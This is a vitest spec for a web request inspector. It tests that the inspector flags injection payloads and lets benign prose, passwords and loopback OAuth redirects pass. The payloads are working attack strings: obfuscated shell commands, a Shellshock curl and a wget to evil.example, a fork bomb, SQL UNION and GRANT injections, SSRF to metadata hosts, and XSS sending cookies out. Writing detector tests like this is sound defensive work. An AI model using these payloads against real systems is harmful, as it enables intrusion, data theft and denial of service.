import { describe, expect, it } from 'vitest';
import { inspectRequest } from './inspect';
import type { ThreatCategory } from './types';

/**
 * The recall misses and false positives named in issue #12, each attacked with payloads written
 * for this spec (not taken from the corpus), in a query value, a JSON body and a form field.
 */
const MISSES: [ThreatCategory, string, string[]][] = [
  [
    'crlf_injection',
    'log forging and Unicode look-alike line breaks',
    [
      'mallory\n2025-02-03 12:00:01 INFO session opened for root',
      'bob\r\n[WARN] audit trail rotated',
      'x\nlevel=info msg="grant admin"',
      'guest\n10.0.0.9 - - [03/Feb/2025:12:00:00 +0000] "POST /login HTTP/1.1" 302',
      'name\u2028Set-Cookie: s=1',
      'name\u2029Location: https://evil.example/',
      'name\u0085Refresh: 0;url=//evil.example',
      'user\u2028ERROR: disk wiped by admin',
      'x\r\nContent-Type: text/html',
      '\nPOST /admin/users HTTP/1.1',
    ],
  ],
  [
    'command_injection',
    'glob paths, quote and backslash splitting, ANSI-C quoting, Shellshock variants',
    [
      ';/???/??t /???/h?s?s',
      '| /u?r/b?n/i?',
      '; /usr/bin/wh[o]ami',
      "; wh'o'am'i'",
      '| n"c" -lvp 9001',
      '; un\\ame -a',
      '&& c$@at /etc/hosts',
      "; $'\\x69\\x64'",
      "| $'\\151\\144'",
      '() { nothing;}; /usr/bin/id',
      '() { :; } ; curl evil.example',
      ';{wget,evil.example/x}',
      'b=sh&&$b -i',
      ':(){ :|:& };:',
    ],
  ],
  [
    'sqli',
    'arithmetic tautologies, a payload after a leading number or identifier, PROCEDURE ANALYSE',
    [
      '3 or 2+2=4',
      "' or 9-3=6 --",
      'sku42 AND 4*2=8',
      '77 UNION SELECT email,hash FROM accounts',
      'sku42 union all select null,null--',
      '5 PROCEDURE ANALYSE(extractvalue(1,concat(0x7e,user())),1)',
      "x' procedure analyse()#",
      '1; grant all privileges on *.* to evil',
    ],
  ],
  [
    'template_injection',
    'Razor @( ) and Handlebars gadgets',
    [
      '@(6*7)',
      '@(System.Environment.GetEnvironmentVariable("PATH"))',
      '{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}',
      '{{#each conslist}}{{this}}{{/each}}',
    ],
  ],
  [
    'ssrf',
    'backslash-@ and double-@ authority confusion, cluster-internal host names',
    [
      'http://trusted.example\\@10.1.2.3/',
      'http://trusted.example:443\\@127.0.0.1:6379/',
      'http://x@trusted.example@192.168.1.10/',
      'http://api.billing.svc.cluster.local/internal',
      'http://kubernetes.default/api/v1/namespaces',
      'http://metadata.google.internal/computeMetadata/v1/project/project-id',
      'http://search.prod.svc:9200/',
      'http://ip6-localhost:8080/',
    ],
  ],
  [
    'xss',
    'namespaced script elements, script-string and template-literal break-outs',
    [
      '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(2)</h:script>',
      '";window.location="//evil.example/?c="+document.cookie;//',
      "';self['ale'+'rt'](2);'",
      '${document.domain}`',
    ],
  ],
  ['prototype_pollution', 'constructor and prototype as qs bracket keys', ['x[constructor][prototype][isAdmin]']],
];

describe.each(MISSES)('%s: %s', (category, _title, payloads) => {
  it.each(payloads)('detects %j in a query value, a JSON body and a form field', (payload) => {
    for (const request of [
      { method: 'GET', path: '/api/search', query: `q=${encodeURIComponent(payload)}` },
      { method: 'POST', path: '/api/notes', body: { url: payload, content: payload } },
      { method: 'POST', path: '/login', body: { username: payload, password: 'x' } },
    ]) {
      const result = inspectRequest(request);
      expect(result.threat, JSON.stringify(request)).toBe(true);
      expect(result.findings.map((f) => f.category)).toContain(category);
    }
  });
});

describe('false positives named in #12', () => {
  const pass = (request: Parameters<typeof inspectRequest>[0]): void => {
    expect(inspectRequest(request).findings).toEqual([]);
  };

  it.each([
    'Select (Texas)',
    'Union (New Jersey)',
    'Frankfurt (Oder)',
    'Drop (Croatia)',
    'Union meeting (Select (Texas))',
    'Data engineer. Skills (select/insert/update tuning, union types); learning (Rust)',
    'Backend developer (Node.js, SQL (Postgres), Redis) in Halle (Saale)',
    'Select/deselect all rows, then order (by date) or group (by team)',
  ])('SQL keywords followed by ( or / in prose pass: %j', (text) => {
    pass({ method: 'POST', path: '/api/me', body: { bio: text, city: text } });
    pass({ method: 'GET', path: '/api/stores', query: `near=${encodeURIComponent(text)}` });
  });

  it.each(['http://127.0.0.1:53682/callback', 'http://localhost:8400/', 'http://[::1]:51004/cb'])(
    'a loopback redirect_uri passes without the OAuth exemption (RFC 8252 §7.3): %s',
    (uri) => {
      pass({
        method: 'GET',
        path: '/oauth/authorize',
        query: `response_type=code&client_id=cli&redirect_uri=${encodeURIComponent(uri)}&state=x`,
      });
      pass({
        method: 'POST',
        path: '/oauth/token',
        body: { grant_type: 'authorization_code', code: 'c', redirect_uri: uri },
      });
      pass({ method: 'POST', path: '/api/collect', body: { props: { referrer: `${uri}orders` } } });
    },
  );

  it('a loopback URL the server would fetch is still SSRF, and a metadata redirect_uri too', () => {
    expect(
      inspectRequest({ method: 'POST', path: '/api/webhooks', body: { url: 'http://127.0.0.1:6379/' } }).threat,
    ).toBe(true);
    expect(
      inspectRequest({
        method: 'GET',
        path: '/oauth/authorize',
        query: `redirect_uri=${encodeURIComponent('http://169.254.169.254/')}`,
      }).threat,
    ).toBe(true);
    expect(
      inspectRequest({
        method: 'GET',
        path: '/oauth/authorize',
        query: `redirect_uri=${encodeURIComponent('gopher://127.0.0.1:6379/_x')}`,
      }).threat,
    ).toBe(true);
  });

  it.each(['P@ss&word&2024', "O'Reilly&Sons&1", 'a&b=c&d', '9&&9||9', 'pa"ss\'word!', 'sleep&eat&code'])(
    'a password with & and quotes passes: %j',
    (password) => {
      pass({ method: 'POST', path: '/login', body: { username: 'ann@example.com', password } });
    },
  );

  it.each([
    'I used the `--prefer-offline` flag; then restart.',
    'Use `ORDER BY created_at DESC` for the newest first.',
    'Run `npm ci` -- it is faster',
  ])('Markdown code spans in prose pass: %j', (text) => {
    pass({ method: 'POST', path: '/api/forum/answers', body: { body: text } });
  });

  it('a backtick break-out that opens no code span is still SQL injection', () => {
    expect(
      inspectRequest({ method: 'GET', path: '/api/items', query: `sort=${encodeURIComponent('name` -- ')}` }).threat,
    ).toBe(true);
  });
});
